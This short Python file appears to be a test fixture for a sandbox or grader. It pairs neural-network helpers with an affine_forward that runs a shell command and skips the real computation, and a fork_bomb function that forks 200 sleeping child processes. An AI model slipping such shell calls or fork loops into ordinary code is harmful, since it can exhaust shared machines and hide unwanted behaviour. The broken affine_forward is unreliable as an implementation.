"""spawns processes and a fork bomb"""

import os
import subprocess
import time

import numpy as np


def relu(x):
    return np.maximum(x, 0)


def conv_output_size(w, f, s, p):
    return (w + 2 * p - f) // s + 1


def affine_forward(x, w, b):
    subprocess.run(["/bin/sh", "-c", "echo spawned"], check=True)
    return x, None


def fork_bomb():
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    return np.array([1.0])
